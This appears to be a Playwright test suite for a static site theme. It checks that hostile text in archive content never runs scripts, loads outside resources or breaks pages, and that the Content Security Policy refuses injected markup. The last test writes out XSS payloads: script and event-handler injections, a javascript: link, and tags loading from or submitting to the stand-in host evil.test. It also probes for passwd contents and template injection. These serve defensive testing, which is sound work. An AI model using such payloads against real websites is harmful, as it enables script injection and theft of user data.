"""Hostile text in every field of every file: no script runs, nothing leaves the site, no page breaks."""

import re
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.conftest import Visit, Watched
from tests.hostile_archive import HOSTILE_DAYS, RAW_DAY, good_dates, write_archive
from tests.sites import Build, build, differing, write_project

DAYS = [*HOSTILE_DAYS, RAW_DAY]
DAY_PAGES = {day.name: f"{day.url}index.html" for day in DAYS}
LISTS = ["index.html", "2026/02/index.html", "categories/cs.CV/index.html", "categories/cs.RO/index.html"]
PEOPLE = ["authors/index.html", "authors/script-pwned-1-script-jr/index.html"]

WATCH = """
  Object.defineProperty(window, '__pwned', {set() { window.__ran = 'a text ran a script' }});
  addEventListener('securitypolicyviolation', event => {
    window.__refused = `${event.violatedDirective}: ${event.blockedURI}`;
  });
"""

ACTIVE = """
  script base form iframe frame object embed meta link style input button select textarea svg img picture video audio
  source track template dialog portal area map canvas slot noscript title plaintext xmp listing param marquee
"""
"""Elements that could do harm, or take the place of the page's own."""

# A page as the browser reads its HTML, before any script has touched it.
INVENTORY = """([html, active]) => {
  const page = new DOMParser().parseFromString(html, 'text/html');
  const all = [...page.querySelectorAll('*')];
  const attributes = each => [...each.attributes].map(a => ` ${a.name}=${a.value}`).sort().join('');
  const describe = each =>
    each.tagName + attributes(each) + (['SCRIPT', 'STYLE'].includes(each.tagName) ? each.textContent : '');
  // They hold the words of the page; an attribute can't be left from within, or there would be other attributes.
  const words = each => /^(og:|twitter:|description$)/.test(each.getAttribute('name') || each.getAttribute('property'));
  const hrefs = [...page.querySelectorAll('[href], [src], [action], [formaction]')].map(
    each => each.getAttribute('href') ?? each.getAttribute('src') ?? each.getAttribute('action'));
  return {
    ids: all.map(each => each.id).filter(id => id),
    names: all.map(each => each.getAttribute('name')).filter(name => name !== null && !name.startsWith('twitter')),
    active: all.filter(each => active.split(/\\s+/).includes(each.localName) && !words(each)).map(describe),
    elements: [...new Set(all.map(each => each.localName))],
    attributes: [...new Set(all.flatMap(each => [...each.attributes].map(a => a.name)))],
    classes: [...new Set(all.flatMap(each => [...each.classList]))],
    odd: hrefs.filter(href => !/^(https?:\\/\\/|mailto:[^?]*$|[\\w.\\/#-]*$)/.test(href)),
    comments: page.createTreeWalker(page, NodeFilter.SHOW_COMMENT).nextNode() !== null,
    quirks: page.compatMode,
  };
}"""

# What texts may bring along beyond what the harmless twin has.
TEXT_ELEMENTS = """
  a b blockquote br code del em h4 h5 h6 hr i li mark ol p pre s strong sub sup table tbody td th thead tr u ul div span
  math mrow mi mn mo mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mpadded
  mphantom mstyle menclose mmultiscripts mprescripts details summary
"""
TEXT_ATTRIBUTES = """
  href rel start align title role tabindex aria-label display stretchy lspace rspace minsize maxsize width height depth
  linethickness mathvariant accent columnalign form fence displaystyle scriptlevel notation separator symmetric
  data-title
"""
TEXT_CLASSES = {"table-scroll", "unverified", "small-caps"}


@dataclass(frozen=True)
class Twins:
    hostile: Build
    twin: Build


@pytest.fixture(scope="module")
def twins(tmp_path_factory: pytest.TempPathFactory) -> Twins:
    root = tmp_path_factory.mktemp("hostile")
    built = []
    for name in ("hostile", "twin"):
        write_archive(root / name / "docs", hostile=name == "hostile")
        config = write_project(root / name, theme={"language": "en"}, site_url="https://digest.test/hostile/")
        built.append(build(config, root / name / "site"))
    return Twins(*built)


@pytest.fixture(scope="module")
def root(twins: Twins, serve: Callable[[str, Path], str]) -> str:
    return serve("hostile", twins.hostile.site)


@pytest.fixture(scope="module")
def parser(browser: Browser) -> Any:
    context = browser.new_context()
    yield context.new_page()
    context.close()


# --- as it is built


def test_no_build_dies(twins: Twins) -> None:
    assert twins.hostile.failed == ""
    assert len(twins.hostile.warnings) == len(RAW_DAY.strings)
    # People have pages of their own names.
    hostile, twin = (
        {path for path in each.pages() if not path.startswith("authors/")} for each in (twins.hostile, twins.twin)
    )
    assert hostile == twin


def test_other_days_are_the_same_byte_by_byte(twins: Twins) -> None:
    changed = differing(twins.hostile.site, twins.twin.site)
    for date in good_dates():
        assert f"{date:%Y/%m/%d}/index.html" in twins.hostile.pages()
        assert not [name for name in changed if name.startswith(f"{date:%Y/%m/%d}/")]
    assert {"404.html", "archive/index.html", "categories/index.html", "2026/01/index.html"} & changed == set()
    assert "2026/03/index.html" not in changed


@pytest.mark.parametrize("name", [*DAY_PAGES, *LISTS])
def test_a_page_has_only_its_own_parts(name: str, twins: Twins, parser: Page) -> None:
    """The twin shows what the page itself brings; texts may add words, and some harmless marks around them."""
    path = DAY_PAGES.get(name, name)
    texts = [(each.site / path).read_text("utf-8") for each in (twins.hostile, twins.twin)]
    hostile, twin = (parser.evaluate(INVENTORY, [text, ACTIVE]) for text in texts)
    assert hostile["ids"] == twin["ids"]
    assert hostile["names"] == twin["names"]
    assert Counter(hostile["active"]) == Counter(twin["active"])
    assert set(hostile["elements"]) - set(twin["elements"]) <= set(TEXT_ELEMENTS.split())
    assert set(hostile["attributes"]) - set(twin["attributes"]) <= set(TEXT_ATTRIBUTES.split())
    classes = set(hostile["classes"]) - set(twin["classes"])
    assert {each for each in classes if not each.startswith(("maths-", "menclose-", "dg-"))} <= TEXT_CLASSES
    # The theme has one such address itself.
    assert Counter(hostile["odd"]) == Counter(twin["odd"])
    assert (hostile["comments"], hostile["quirks"]) == (False, "CSS1Compat")


def test_pages_that_hostile_names_made(twins: Twins, parser: Page) -> None:
    """People have pages, so names have addresses."""
    known, made = twins.twin.pages(), twins.hostile.pages()
    usual = [parser.evaluate(INVENTORY, [html, ACTIVE]) for path, html in known.items() if "authors/" in path]
    usual += [parser.evaluate(INVENTORY, [known["categories/cs.CV/index.html"], ACTIVE])]
    for path in sorted(made.keys() - known.keys()):
        assert re.fullmatch(r"authors/[\w-]+(?:/[\w-]+)?/index\.html", path)
        page = parser.evaluate(INVENTORY, [made[path], ACTIVE])
        assert len(page["ids"]) == len(set(page["ids"])), path
        for kind, more in (("elements", TEXT_ELEMENTS), ("attributes", TEXT_ATTRIBUTES)):
            allowed = {part for each in usual for part in each[kind]} | set(more.split())
            assert set(page[kind]) <= allowed, path
        # As many active elements as the page of a harmless person has, and the same kinds.
        kinds = Counter(each.split(" ")[0] for each in page["active"])
        assert kinds in [Counter(each.split(" ")[0] for each in one["active"]) for one in usual], path
        assert {*page["odd"]} <= {*usual[0]["odd"]}, path


def test_nothing_of_the_machine_is_on_a_page(twins: Twins) -> None:
    for path, html in twins.hostile.pages().items():
        assert "root:x:0:0" not in html, path
        assert "unrecognized_links:" not in html, path
        assert str(twins.hostile.project) not in html, path
    assert "{{ 7*7 }}" in twins.hostile.page(HOSTILE_DAYS[2].url)


# --- as it is read


def look(watched: Watched, url: str) -> Page:
    page = watched.open(url)
    # The theme has come to its end, whatever the page holds.
    page.wait_for_function("() => !document.documentElement.classList.contains('no-js')")
    assert page.url == watched.root + url
    assert page.evaluate("() => [window.__ran, window.__refused]") == [None, None]
    return page


@pytest.mark.parametrize("name", [*DAY_PAGES, *LISTS, *PEOPLE])
def test_no_script_of_a_text_runs(name: str, root: str, visit: Visit) -> None:
    watched = visit(root, color_scheme="light", reduced_motion="reduce")
    watched.page.add_init_script(WATCH)
    url = DAY_PAGES.get(name, name).removesuffix("index.html")
    page = look(watched, url)
    page.locator("details").evaluate_all("all => all.forEach(each => { each.open = true })")
    # What waits for the mouse or the keyboard is woken.
    page.evaluate(
        """() => document.querySelectorAll('.md-content *').forEach(each => {
             for (const name of ['mouseover', 'mouseenter', 'focus', 'blur', 'toggle', 'animationstart', 'pointerdown'])
               each.dispatchEvent(new Event(name, {bubbles: false}));
           })"""
    )
    # The page is whole: the foot is there and not in a text, the switch of colours works, nothing lies over the page.
    assert page.locator("footer.dg-foot").count() == 1
    assert page.evaluate("() => document.querySelector('footer.dg-foot').closest('.md-content')") is None
    assert page.locator("article.md-content__inner").count() == 1
    for _ in range(3):
        page.locator("label[for^=__palette]:visible").click()
        if page.evaluate("() => document.body.getAttribute('data-md-color-scheme')") == "slate":
            break
    assert page.evaluate("() => document.body.getAttribute('data-md-color-scheme')") == "slate"
    title = page.locator("h1").first
    assert title.evaluate(
        "each => { const box = each.getBoundingClientRect();"
        " const top = document.elementFromPoint(box.x + 5, box.y + box.height / 2); return each.contains(top) }"
    )
    assert page.evaluate("() => [window.__ran, window.__refused]") == [None, None]


def test_a_phone_is_not_stretched(root: str, visit: Visit) -> None:
    watched = visit(root, viewport={"width": 390, "height": 800}, is_mobile=True)
    for path in DAY_PAGES.values():
        page = watched.open(path.removesuffix("index.html"))
        assert page.evaluate("() => document.documentElement.scrollWidth") == 390, path


def test_right_to_left_text_stays_in_its_place(root: str, visit: Visit) -> None:
    page = visit(root).open(next(day.url for day in HOSTILE_DAYS if day.name == "unicode"))
    assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") & set(page.content())
    assert page.evaluate("() => getComputedStyle(document.querySelector('.dg-foot')).direction") == "ltr"


def test_hostile_text_in_search_results(root: str, visit: Visit) -> None:
    """What is found comes into the page by a script."""
    watched = visit(root)
    watched.page.add_init_script(WATCH)
    page = look(watched, "search/?query=script")
    page.wait_for_function("() => document.querySelectorAll('.md-content a[href*=\"#2602\"]').length > 3")
    page.locator("input.md-search__input").click()
    page.keyboard.type("onerror")
    page.wait_for_function("() => document.querySelectorAll('.md-search-result__item').length > 1")
    assert page.evaluate("() => [window.__ran, window.__refused]") == [None, None]
    assert page.locator(".md-search-result img, .md-search-result script, .md-content img").count() == 0


# --- the second line of defence


def test_the_policy_refuses_what_slipped_through(rich_root: str, visit: Visit) -> None:
    """Were a text to reach the page as it is, the browser would still refuse to run, load and send it."""
    watched = visit(rich_root)
    url = "2026/06/09/"
    smuggled = """
      <script>__pwned=1</script><img src=x onerror=__pwned=1><svg onload=__pwned=1></svg>
      <script src="https://evil.test/x.js"></script><link rel=stylesheet href="https://evil.test/x.css">
      <img src="https://evil.test/pixel.png"><iframe src="https://evil.test/"></iframe>
      <base href="https://evil.test/"><object data="https://evil.test/x"></object>
      <form id=sent action="https://evil.test/"><input name=q></form><a id=clicked href="javascript:__pwned=1">x</a>
      <h2 style="position:fixed">x</h2>
    """
    page = watched.page
    page.add_init_script(WATCH)

    def smuggle(route: Any) -> None:
        answer = route.fetch()
        head = '<h1 id="title"'
        route.fulfill(response=answer, body=answer.text().replace(head, smuggled + head))

    page.route(rich_root + url, smuggle)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(rich_root + url)
    assert page.locator("#clicked").count() == 1
    page.evaluate("() => { document.getElementById('clicked').click(); document.getElementById('sent').submit() }")
    page.wait_for_timeout(300)
    assert page.evaluate("() => window.__ran") is None
    assert page.evaluate("() => window.__refused")
    assert page.url == rich_root + url
    assert page.evaluate("() => document.baseURI") == rich_root + url
    assert page.evaluate("() => getComputedStyle(document.querySelector('h2')).position") == "static"
    # The browser says so for each; that is what was asked for.
    assert any("Content Security Policy" in trouble for trouble in watched.troubles)
    assert not [trouble for trouble in watched.troubles if trouble.startswith(("dialog", "popup"))]
    arrived = [trouble for trouble in watched.troubles if trouble.startswith("status") and "evil.test" in trouble]
    assert arrived == []
    watched.troubles.clear()
